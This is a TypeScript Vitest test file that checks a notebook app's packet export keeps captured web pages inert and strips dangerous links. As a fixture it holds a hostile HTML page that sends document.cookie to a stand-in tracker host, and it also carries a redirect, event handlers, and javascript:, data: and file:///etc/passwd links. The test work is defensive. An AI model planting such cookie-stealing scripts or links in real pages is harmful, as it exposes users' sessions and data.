import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { noteHtml } from '../../electron/packet/html/noteHtml';
import { exportPacket } from '../../electron/packet/exportPacket';
import { importPacket } from '../../electron/packet/importPacket';
import { readPacketEntries, verifyPacket } from '../../electron/packet/verifyPacket';
import { NotebookSession } from '../../electron/session/notebookSession';
import type { DocNode } from '../../shared/model';
import { packetOriginalExtension } from '../../shared/packet/packetPaths';
import { tempDir } from './helpers/tempDir';

const sha = (data: Uint8Array | string): string => createHash('sha256').update(data).digest('hex');

// A hostile page as a colleague might have captured it: script, handlers, a beacon, a redirect.
const HOSTILE_PAGE = `<!DOCTYPE html><html><head><title>Port tender</title>
<meta http-equiv="refresh" content="0; url=https://tracker.example/r">
<script>fetch('https://tracker.example/beacon?c=' + document.cookie)</script></head>
<body onload="alert(1)"><article><h1>Port tender awarded without bids</h1>
<p>The port authority awarded the dredging contract without a public tender, records show, and the
minutes of the board meeting do not mention any competing offer for the work.</p>
<p>Board members said they had not seen the contract before it was signed. <img src="https://tracker.example/pixel.gif" onerror="alert(2)"></p>
<svg onload="alert(3)"><script>alert(4)</script></svg></article></body></html>`;

const link = (text: string, href: string): DocNode => ({
  type: 'text',
  text,
  marks: [{ type: 'link', attrs: { href } }],
});

/** What a packet's HTML must never contain: anything that runs, redirects or reaches out. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('<script');
  for (const m of html.matchAll(/<[a-z][^>]*\son[a-z]+\s*=/gi)) found.push(`handler: ${m[0].slice(0, 60)}`);
  if (/<meta[^>]*http-equiv\s*=\s*["']?refresh/i.test(html)) found.push('meta refresh');
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    const name = /^<([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase();
    for (const m of tag.matchAll(/\s(src|href|action|formaction|srcset|data)\s*=\s*["']?([^"'\s>]*)/gi)) {
      const value = m[2] ?? '';
      if (value.startsWith('#') || /^(sources|notes)\//.test(value)) continue;
      const plainWeb =
        /^https?:\/\//i.test(value) && name === 'a' && /\srel\s*=\s*["']noopener noreferrer["']/i.test(tag);
      if (!plainWeb) found.push(`${name} → ${value}`);
    }
  }
  if (/(javascript|vbscript|data|file):/i.test(html.replace(/⟨[^⟩]*⟩/g, '')))
    found.push('active scheme in markup');
  if (/⟨\s*(javascript|vbscript|data|file):/i.test(html)) found.push('active scheme shown as text');
  return found;
}

describe('inert originals in packets', () => {
  it('the checker itself finds every active part of a hostile page', () => {
    expect(activeParts(HOSTILE_PAGE)).toEqual(
      expect.arrayContaining([
        '<script',
        'meta refresh',
        expect.stringMatching(/^handler: <body/),
        expect.stringMatching(/^handler: <img/),
        expect.stringMatching(/^handler: <svg/),
        'img → https://tracker.example/pixel.gif',
      ]),
    );
    expect(activeParts('<a href="https://example.org">x</a>')).toEqual(['a → https://example.org']);
    expect(activeParts('<a href="https://example.org" rel="noopener noreferrer">x</a>')).toEqual([]);
    expect(activeParts('<a href="javascript:alert(1)">x</a>')).toHaveLength(2);
  });

  it('names active originals .txt and keeps inert ones as they are', () => {
    expect(packetOriginalExtension('page.html', 'text/html')).toBe('html.txt');
    expect(packetOriginalExtension('page.HTM', 'text/html')).toBe('htm.txt');
    expect(packetOriginalExtension('chart.svg', 'image/svg+xml')).toBe('svg.txt');
    expect(packetOriginalExtension('feed.xml', 'application/xml')).toBe('xml.txt');
    expect(packetOriginalExtension(null, 'application/xhtml+xml')).toBe('html.txt');
    expect(packetOriginalExtension('report.pdf', 'application/pdf')).toBe('pdf');
    expect(packetOriginalExtension('memo.docx', 'application/octet-stream')).toBe('docx');
    expect(packetOriginalExtension(null, 'text/plain')).toBe('txt');
    expect(packetOriginalExtension(null, 'application/x-unknown')).toBe('bin');
  });

  it('never shows javascript:, data:, file: or vbscript: addresses in the reader', () => {
    const doc: DocNode = {
      type: 'doc',
      content: [
        {
          type: 'paragraph',
          content: [
            link('a', 'javascript:alert(1)'),
            link('b', ' JaVaScRiPt:alert(1)'),
            link('c', 'data:text/html,<script>alert(1)</script>'),
            link('d', 'file:///etc/passwd'),
            link('e', 'vbscript:msgbox(1)'),
            link('f', 'https://example.org/report'),
            link('g', 'mailto:desk@example.org'),
          ],
        },
      ],
    };
    const { html } = noteHtml(doc, new Map(), 'n');
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain('⟨https://example.org/report⟩');
    expect(html).toContain('⟨mailto:desk@example.org⟩');
    expect(html.match(/address left out/g)).toHaveLength(5);
  });

  it('ships an HTML original as .txt with its exact bytes and hash; the reader runs nothing; verify and import still work', async () => {
    const dir = await tempDir();
    const session = await NotebookSession.open({ notebookDir: join(dir, 'from'), userDataDir: null });
    const bytes = new TextEncoder().encode(HOSTILE_PAGE);
    const { sourceId } = await session.importBytes('tender.html', bytes);
    const note = await session.handlers.createNote({ title: 'Links' });
    await session.handlers.saveNote({
      id: note.id,
      doc: {
        type: 'doc',
        content: [{ type: 'paragraph', content: [link('report', 'https://example.org/r')] }],
      },
      allowEmpty: false,
    });
    const { path } = await exportPacket(session, { out: join(dir, 'p.zip') });
    const files = await readPacketEntries(path);

    const originalPath = `sources/${sourceId}/original.html.txt`;
    expect(files.has(`sources/${sourceId}/original.html`)).toBe(false);
    expect(Buffer.from(files.get(originalPath) ?? []).equals(Buffer.from(bytes))).toBe(true);
    const manifest = JSON.parse(Buffer.from(files.get('manifest.json') ?? []).toString('utf8')) as {
      files: Array<{ path: string; sha256: string }>;
    };
    expect(manifest.files.find((f) => f.path === originalPath)?.sha256).toBe(sha(bytes));
    // Nothing in the packet opens as a page except the reader itself.
    expect([...files.keys()].filter((p) => /\.(html?|xhtml|svg|xml|xsl)$/i.test(p))).toEqual(['index.html']);
    for (const [name, data] of files) {
      if (!/\.(html?|xhtml|svg)$/i.test(name)) continue;
      expect(activeParts(Buffer.from(data).toString('utf8')), name).toEqual([]);
    }
    expect(Buffer.from(files.get('index.html') ?? []).toString('utf8')).toContain(
      `href="sources/${sourceId}/original.html.txt"`,
    );

    expect(await verifyPacket(path)).toMatchObject({ ok: true });
    const other = await NotebookSession.open({ notebookDir: join(dir, 'to'), userDataDir: null });
    await importPacket(other.notebook, path);
    const imported = other.notebook.sources().find((s) => s.id === sourceId);
    expect(imported?.original.sha256).toBe(sha(bytes));
    expect(Buffer.from(await other.notebook.originals.get(sha(bytes))).equals(Buffer.from(bytes))).toBe(true);
    await Promise.all([session.close(), other.close()]);
  });
});
